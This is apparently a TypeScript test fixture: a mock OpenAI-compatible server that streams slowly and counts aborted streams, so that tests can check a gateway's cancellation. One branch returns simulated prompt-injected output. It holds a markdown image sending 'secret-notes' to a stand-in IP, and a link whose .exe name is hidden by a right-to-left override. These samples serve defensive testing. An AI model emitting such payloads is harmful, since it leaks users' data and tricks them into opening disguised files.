// A local upstream for the end-to-end suite: an OpenAI-compatible endpoint that streams slowly and
// counts how its streams ended, so tests can check that the gateway cancels upstream requests.
import { createServer } from "node:http";

const port = Number(process.argv[2] ?? 3199);
const stats = { started: 0, completed: 0, abortedByClient: 0 };

function chunk(content: string, index: number): string {
  return `data: ${JSON.stringify({ id: "chatcmpl-e2e", object: "chat.completion.chunk", created: 1, model: "slow-model", choices: [{ index: 0, delta: index === 0 ? { role: "assistant", content } : { content }, finish_reason: null }] })}\n\n`;
}

createServer(async (request, response) => {
  if (request.url === "/health") return void response.end("ok");
  if (request.url === "/stats") {
    response.setHeader("content-type", "application/json");
    return void response.end(JSON.stringify(stats));
  }
  if (request.url === "/v1/models") {
    response.setHeader("content-type", "application/json");
    return void response.end(JSON.stringify({ object: "list", data: [{ id: "slow-model", object: "model", max_model_len: 32768 }] }));
  }
  if (request.url === "/v1/chat/completions" && request.method === "POST") {
    const body: Buffer[] = [];
    request.on("data", (part: Buffer) => body.push(part));
    await new Promise((resolve) => request.on("end", resolve));
    // Prompt-injected output: a remote image that would carry data away, and a link whose text is
    // reversed by a right-to-left override.
    if (Buffer.concat(body).toString().includes("hostile markdown")) {
      response.writeHead(200, { "content-type": "text/event-stream", "cache-control": "no-cache" });
      response.write(chunk("Here: ![chart](http://198.51.100.7/leak.png?data=secret-notes) and [report\u202Efdp.exe](https://example.org/r) done.", 0));
      response.write(`data: ${JSON.stringify({ id: "chatcmpl-e2e", object: "chat.completion.chunk", created: 1, model: "slow-model", choices: [{ index: 0, delta: {}, finish_reason: "stop" }] })}\n\n`);
      return void response.end("data: [DONE]\n\n");
    }
    stats.started += 1;
    response.writeHead(200, { "content-type": "text/event-stream", "cache-control": "no-cache" });
    let sent = 0;
    const total = 40;
    const timer = setInterval(() => {
      if (sent < total) {
        response.write(chunk(`part ${sent} `, sent));
        sent += 1;
        return;
      }
      clearInterval(timer);
      response.write(`data: ${JSON.stringify({ id: "chatcmpl-e2e", object: "chat.completion.chunk", created: 1, model: "slow-model", choices: [{ index: 0, delta: {}, finish_reason: "stop" }], usage: { prompt_tokens: 5, completion_tokens: total, total_tokens: total + 5 } })}\n\n`);
      response.end("data: [DONE]\n\n");
      stats.completed += 1;
    }, 100);
    response.on("close", () => {
      if (sent < total) {
        clearInterval(timer);
        stats.abortedByClient += 1;
      }
    });
    return;
  }
  response.statusCode = 404;
  response.end();
}).listen(port, "127.0.0.1");
